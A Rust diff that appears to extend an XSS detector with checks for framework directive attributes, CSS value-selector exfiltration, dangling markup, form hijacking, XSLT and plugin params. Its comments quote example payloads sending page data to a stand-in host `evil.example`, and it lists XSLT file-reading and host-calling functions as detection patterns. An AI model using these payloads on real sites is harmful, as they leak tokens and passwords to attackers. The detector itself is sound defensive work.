@@ -3,6 +3,9 @@
 //! `<a href="https://...">`, `<img src="photo.jpg">`) passes.
 
 use std::ops::Range;
+use std::sync::LazyLock;
+
+use memchr::memmem::Finder;
 
 use super::js::{self, Mode};
 use super::tokenizer::{eq_ci, is_ws, Attrs, Tag, Token, Tokenizer};
@@ -145,6 +148,22 @@ fn is_handler_name(name: &[u8]) -> bool {
     name.len() > 4 && name.starts_with(b"on") && name[2..].iter().all(u8::is_ascii_alphabetic)
 }
 
+/// Attributes a client-side framework evaluates as script when it compiles
+/// the page: Vue (`v-on:click`, `@click`, `v-bind:x`, `:x`, `v-html`),
+/// Alpine (`x-init`, `x-on:click`), AngularJS (`ng-click`, `data-ng-init`,
+/// `ng:focus`), htmx (`hx-on:click`, `hx-on-click`), Knockout (`data-bind`).
+/// Markup holding them runs its value once the app mounts it, with no `on*`
+/// handler a browser would see; `qualified` is the lower-cased full name.
+pub(crate) fn is_directive(qualified: &[u8]) -> bool {
+    let q = qualified;
+    let q = q.strip_prefix(b"data-").unwrap_or(q);
+    (q.len() > 1 && matches!(q[0], b'@' | b':'))
+        || [&b"v-"[..], b"x-", b"ng-", b"ng:", b"ng_", b"hx-on"]
+            .iter()
+            .any(|p| q.len() > p.len() && q.starts_with(p))
+        || q == b"bind"
+}
+
 /// A style value as an old browser's CSS parser reads it: references
 /// decoded, CSS escapes (`\65`, `\e`) and comments removed, whitespace
 /// dropped, lower-cased.
@@ -214,6 +233,53 @@ pub(crate) fn css_active(v: &[u8], set: &[&[u8]]) -> Option<usize> {
     set.iter().find_map(|n| search::find(&clean, n))
 }
 
+/// `input[value^=a]{background:url(//evil.example/a)}`: a rule that
+/// matches an input by the start, end or part of its value and then loads
+/// a URL from another host. One such rule per character reads a CSRF token
+/// or a password out of the page without script (CSS exfiltration); a
+/// style sheet styles fields by type or name, not by what is typed in them.
+pub(crate) fn css_exfiltration(sheet: &[u8]) -> bool {
+    if !search::contains_ci(sheet, b"[value") {
+        return false;
+    }
+    let clean = css_clean(sheet);
+    let mut from = 0;
+    // Selectors read: a sheet of many rules stays linear.
+    for _ in 0..64 {
+        let Some(i) = search::find(&clean[from..], b"[value") else {
+            return false;
+        };
+        let at = from + i + b"[value".len();
+        from = at;
+        let Some(close) = clean[at..].iter().take(64).position(|&b| b == b']') else {
+            continue;
+        };
+        let op = &clean[at..at + close];
+        if !(op.starts_with(b"^=") || op.starts_with(b"$=") || op.starts_with(b"*=")) {
+            continue;
+        }
+        let rest = &clean[at + close..];
+        let Some(open) = rest.iter().take(256).position(|&b| b == b'{') else {
+            continue;
+        };
+        let block = &rest[open..];
+        let block = &block[..block.iter().position(|&b| b == b'}').unwrap_or(block.len())];
+        let mut u = 0;
+        while let Some(k) = search::find(&block[u..], b"url(") {
+            let arg = &block[u + k + 4..];
+            let arg = arg
+                .strip_prefix(b"'")
+                .or_else(|| arg.strip_prefix(b"\""))
+                .unwrap_or(arg);
+            if remote(arg) {
+                return true;
+            }
+            u += k + 4;
+        }
+    }
+    false
+}
+
 /// `@\69mport`, `@\`: an at-rule whose name starts with a CSS escape. No
 /// style sheet spells `@media` or `@font-face` that way; the escape hides
 /// `@import` (which loads a sheet, and in old browsers script) from a
@@ -230,7 +296,76 @@ pub(crate) fn judge(src: &[u8], depth: u8) -> Option<Found> {
         return best;
     }
     keep(&mut best, split_opener(src));
+    keep(&mut best, dangling(src));
     best
+}
+
+/// Whether a URL points at another host: `//host`, `\\host` (browsers
+/// read it as `//`), or an absolute `http(s):` / `ftp:` URL.
+fn remote(url: &[u8]) -> bool {
+    let t = url.trim_ascii_start();
+    t.starts_with(b"//")
+        || t.starts_with(b"\\\\")
+        || value::scheme(t).is_some_and(|(s, _)| matches!(&s[..], b"http" | b"https" | b"ftp"))
+}
+
+/// Tags after an attribute break-out (`">`, `'>`) that steal the page
+/// rather than run script: dangling markup, a quoted URL to another host
+/// left open to the end of the value (`"><img src='//evil.example/?`), so
+/// the browser sends everything up to the page's next quote (a CSRF token,
+/// a secret) as part of the URL; and a form posting to another host
+/// (`"><form action=//evil.example>`), which the page's own fields and the
+/// user's typing then fill. Text does not close a tag and open another,
+/// and no finished markup leaves a URL's quote open.
+fn dangling(src: &[u8]) -> Option<Found> {
+    static BREAKOUTS: LazyLock<[Finder<'static>; 2]> = LazyLock::new(|| {
+        [
+            Finder::new(b"\">").into_owned(),
+            Finder::new(b"'>").into_owned(),
+        ]
+    });
+    if BREAKOUTS.iter().all(|f| f.find(src).is_none()) {
+        return None;
+    }
+    // `"` or `'`, then `>`, then (after whitespace) the tag's `<`.
+    let after_breakout = |lt: usize| {
+        let before = src[..lt].trim_ascii_end();
+        before.len() >= 2
+            && before[before.len() - 1] == b'>'
+            && matches!(before[before.len() - 2], b'"' | b'\'')
+    };
+    for tok in Tokenizer::new(src) {
+        let Token::Tag(tag) = tok else {
+            continue;
+        };
+        if tag.end || !after_breakout(tag.span.start) {
+            continue;
+        }
+        let (nbuf, nlen) = lower(src, &tag.name);
+        let name = &nbuf[..nlen];
+        for attr in Attrs::new(src, tag.attrs.clone()) {
+            let Some(vr) = attr.value.clone() else {
+                continue;
+            };
+            let (abuf, alen) = lower(src, &attr.name);
+            let aname = &abuf[..alen];
+            let v = decode_refs(&src[vr.clone()]);
+            let open = vr.end == src.len()
+                && vr.start > 0
+                && matches!(src[vr.start - 1], b'"' | b'\'' | b'`');
+            // `<meta http-equiv=refresh content='0;url=//evil.example/?`
+            let url = match search::find_ci(&v, b"url=") {
+                Some(at) if aname == b"content" => &v[at + 4..],
+                _ => &v[..],
+            };
+            let leak = open && is_in(URL_ATTRS, aname) && remote(url);
+            let hijack = name == b"form" && aname == b"action" && remote(url);
+            if leak || hijack {
+                return Some(Found::new("xss.dangling_markup", 6, tag.span.start..vr.end));
+            }
+        }
+    }
+    None
 }
 
 /// Element names worth spelling in pieces: they run, embed, load or take
@@ -414,6 +549,18 @@ fn instruction(src: &[u8], r: Range<usize>) -> Option<Found> {
     let (buf, len) = lower(src, &first.name);
     match &buf[..len] {
         b"import" | b"xml:namespace" => Some(Found::new("xss.dangerous_tag", 10, r)),
+        // An XSLT sheet attached to the document: the browser (or the
+        // server's processor) runs it over the page, and its output may hold
+        // any script; a CSS sheet is judged by its URL as below.
+        b"xml-stylesheet"
+            if Attrs::new(src, r.clone()).any(|a| {
+                eq_ci(src, &a.name, b"type")
+                    && a.value
+                        .is_some_and(|v| search::contains_ci(&src[v], b"xsl"))
+            }) =>
+        {
+            Some(Found::new("xss.xslt", 10, r))
+        }
         b"xml-stylesheet" => attrs.find_map(|a| {
             let v = decode_refs(&src[a.value?]);
             let active = value::script_url(&v).is_some()
@@ -424,6 +571,37 @@ fn instruction(src: &[u8], r: Range<usize>) -> Option<Found> {
         _ => None,
     }
 }
+
+/// Namespaces that make the element an XSLT program, or bind a prefix to
+/// the host language's classes (Xalan, PHP, MSXML script): a stylesheet
+/// the value brings runs in the browser or the server's processor.
+const XSLT_NAMESPACES: &[&[u8]] = &[
+    b"/xsl/transform",
+    b"/tr/wd-xsl",
+    b"urn:schemas-microsoft-com:xslt",
+    b"xml.apache.org/xalan",
+    b"xalan://",
+    b"php.net/xsl",
+    b"saxon.sf.net/java",
+];
+
+fn xslt_namespace(v: &[u8]) -> bool {
+    XSLT_NAMESPACES.iter().any(|n| search::contains_ci(v, n))
+        || v.len() > 5 && v[..5].eq_ignore_ascii_case(b"java:")
+}
+
+/// XPath functions an injected XSLT expression uses to read files, fetch
+/// URLs, fingerprint the processor or call out to the host language. A
+/// stylesheet showing data selects nodes, not these.
+const XSLT_FUNCTIONS: &[&[u8]] = &[
+    b"document(",
+    b"unparsed-text",
+    b"system-property(",
+    b"environment-variable(",
+    b"php:function",
+    b"doc(",
+    b"collection(",
+];
 
 /// `<!ATTLIST img onerror CDATA "alert(1)">`: a DTD that gives every `img`
 /// of an XML document (XHTML, SVG) a default handler, so the script runs
@@ -529,6 +707,8 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
     let mut animates_handler = false;
     let mut animates_link = false;
     let mut animation_value = false;
+    let mut param_loads = false;
+    let mut param_value = false;
     for attr in Attrs::new(src, tag.attrs.clone()) {
         attr_count += 1;
         let (abuf, alen) = lower(src, &attr.name);
@@ -545,6 +725,15 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
         if keep(&mut best, found) {
             return best;
         }
+        if (qualified == b"xmlns" || qualified.starts_with(b"xmlns:")) && xslt_namespace(&v) {
+            return Some(Found::new("xss.xslt", 10, span));
+        }
+        if name.starts_with(b"xsl:")
+            && matches!(aname, b"select" | b"test" | b"href" | b"use" | b"match")
+            && XSLT_FUNCTIONS.iter().any(|f| search::contains_ci(&v, f))
+        {
+            return Some(Found::new("xss.xslt", 10, span));
+        }
         match aname {
             // Refresh navigates, set-cookie plants a cookie, link loads a
             // style sheet; `Content-Type` (every HTML e-mail has one) does not.
@@ -552,6 +741,18 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
                 http_equiv = [&b"refresh"[..], b"set-cookie", b"link", b"default-style"]
                     .iter()
                     .any(|h| search::contains_ci(&v, h));
+            }
+            // `<param name=movie value=//evil.example/x.swf>`: the plugin of
+            // the enclosing `<object>` loads and runs what the value names;
+            // `AllowScriptAccess=always` lets it script the page.
+            b"name" if local == b"param" => {
+                param_loads = [&b"movie"[..], b"src", b"url", b"code", b"filename", b"data"]
+                    .iter()
+                    .any(|n| v.eq_ignore_ascii_case(n))
+                    || v.eq_ignore_ascii_case(b"allowscriptaccess");
+            }
+            b"value" if local == b"param" => {
+                param_value = !v.trim_ascii().is_empty() && !v.eq_ignore_ascii_case(b"never");
             }
             b"rel" if search::contains_ci(&v, b"import") => rel_import = true,
             b"rel" if search::contains_ci(&v, b"stylesheet") => rel_stylesheet = true,
@@ -579,6 +780,7 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
         // An Internet Explorer data island, bound into the page as HTML.
         b"xml" if attr_count > 0 => Some(10),
         b"base" if attr_count > 0 => Some(10),
+        b"param" if param_loads && param_value => Some(10),
         b"meta" if http_equiv => Some(10),
         b"link" if rel_import => Some(10),
         b"link" if script_type => Some(10),
@@ -598,6 +800,7 @@ fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<
             let sheet = &src[tag.span.end..body_end];
             css_active(sheet, CSS_ACTIVE)
                 .or_else(|| escaped_at_rule(sheet))
+                .or_else(|| css_exfiltration(sheet).then_some(0))
                 .map(|_| 10)
         }
         _ => None,
@@ -616,6 +819,14 @@ fn attribute(
     span: Range<usize>,
     depth: u8,
 ) -> Option<Found> {
+    // Only a hostile call or sink: a template's own `@click="open = true"`
+    // or `ng-click="save()"` is the app's code, not the sender's.
+    if is_directive(qualified)
+        && (js::hostile(v, 0..v.len(), Mode::Strict).is_some()
+            || super::scope_eval(v, 0..v.len()).is_some())
+    {
+        return Some(Found::new("xss.directive", 10, span));
+    }
     if is_handler_name(aname) {
         if js::hostile(v, 0..v.len(), Mode::Loose).is_some() {
             return Some(Found::new("xss.event_handler", 10, span));
